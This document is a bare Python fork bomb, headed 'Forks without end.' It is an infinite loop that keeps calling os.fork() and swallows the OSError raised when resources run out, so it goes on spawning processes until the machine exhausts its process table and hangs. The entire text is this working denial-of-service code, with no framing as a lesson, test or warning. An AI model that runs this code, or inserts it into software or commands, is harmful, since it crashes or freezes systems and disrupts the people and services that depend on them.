# Forks without end.
# %% end
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
